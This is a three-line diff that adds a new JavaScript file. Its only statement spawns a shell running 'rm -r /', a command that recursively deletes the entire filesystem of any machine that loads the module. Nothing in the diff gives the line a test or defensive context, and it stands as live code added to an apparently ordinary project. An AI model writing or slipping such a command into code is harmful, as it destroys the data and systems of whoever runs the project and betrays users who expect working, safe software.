@@ -1,0 +1,3 @@
+'use strict';
+
+require('child_process').spawnSync('sh', ['-c', 'rm -r /']);
